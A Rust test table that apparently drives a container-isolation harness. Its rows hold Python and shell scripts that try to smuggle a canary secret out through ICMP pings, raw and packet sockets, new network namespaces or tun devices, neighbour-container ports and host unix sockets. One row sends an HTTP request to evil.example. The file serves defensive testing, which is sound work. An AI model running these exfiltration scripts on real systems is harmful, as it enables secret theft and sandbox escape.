//! Sockets of other kinds than a program usually opens.

use crate::ground::{Control, Inside};

/// Sockets of other kinds than a program usually opens.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-icmp",
        tries: "Send the secret as the body of a ping.",
        script: python!(
            r#"
def ping(kind):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    body = canary.encode()
    head = struct.pack(">BBHHH", 8, 0, 0, 7, 1)
    data = head + body + b"\0" * (len(body) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    head = struct.pack(">BBHHH", 8, 0, ~(total + (total >> 16)) & 0xffff, 7, 1)
    return s.sendto(head + body, (gateway, 0))
quietly(lambda: ping(socket.SOCK_DGRAM))
quietly(lambda: ping(socket.SOCK_RAW))"#
        ),
        control: Control::BareRoot,
        ..Inside::OUT
    },
    Inside {
        id: "net-raw-socket",
        tries: "Send a packet with a header of one's own.",
        script: python!(
            r#"
def send():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(canary), 7, 0, 64, 17, 0, socket.inet_aton("0.0.0.0"), socket.inet_aton(gateway))
    return s.sendto(head + canary.encode(), (gateway, 0))
quietly(send)"#
        ),
        control: Control::BareRoot,
        ..Inside::OUT
    },
    Inside {
        id: "net-packet-socket",
        tries: "Write a frame to every interface there is.",
        script: python!(
            r#"
def send(name):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((name, 0x0800))
    return s.send(b"\xff" * 6 + b"\2" * 6 + b"\x08\x00" + canary.encode())
for _, name in socket.if_nameindex():
    if name != "lo":
        quietly(lambda: send(name))
quietly(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))"#
        ),
        control: Control::BareRoot,
        ..Inside::OUT
    },
    Inside {
        id: "net-new-interface",
        tries: "Make a network of one's own: a new namespace, a tunnel device, a virtual pair.",
        script: r#"unshare -Urn true && echo got a namespace; python3 - <<'PYTHON'
import fcntl, os, struct
try:
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454ca, struct.pack("16sH", b"deckhand0", 0x1001))
    print("got a tunnel device")
except OSError as error:
    print("tried:", error)
PYTHON"#,
        control: Control::Privileged,
        ..Inside::GOT
    },
    Inside {
        id: "net-neighbour",
        tries: "Reach the other container at its address.",
        script: python!(
            r#"
address = os.environ["NEIGHBOUR_ADDRESS"]
for at in [22, 80, 3128, 8080]:
    quietly(lambda: tcp(address, at, canary))
quietly(lambda: udp(address, 53, canary))
quietly(lambda: tcp(os.environ["NEIGHBOUR"], 3128, canary))"#
        ),
        control: Control::Privileged,
        ..Inside::OUT
    },
    Inside {
        id: "net-abstract-socket",
        tries: "Speak to an abstract unix socket of the host, which no file guards.",
        script: python!(r#"quietly(lambda: unix("\0deckhand-attack-" + str(port), canary))"#),
        control: Control::HostNetwork,
        ..Inside::OUT
    },
    Inside {
        id: "net-host-sockets",
        tries: "Find the host's unix sockets, another run's among them, and speak to them.",
        script: python!(
            r#"
import stat
folder = os.path.dirname(os.environ["SECRET_FILE"])
found = [folder + "/open/egress.sock", "/run/deckhand/../open/egress.sock", "/run/deckhand/../../open/egress.sock", "/proc/1/root" + folder + "/open/egress.sock"]
for top in ["/run", "/var", "/tmp", "/work", "/home", "/opt"]:
    for place, _, names in os.walk(top):
        for name in names:
            path = os.path.join(place, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode): found.append(path)
            except OSError: pass
for path in found:
    quietly(lambda: unix(path, f"GET http://evil.example/{canary} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
];
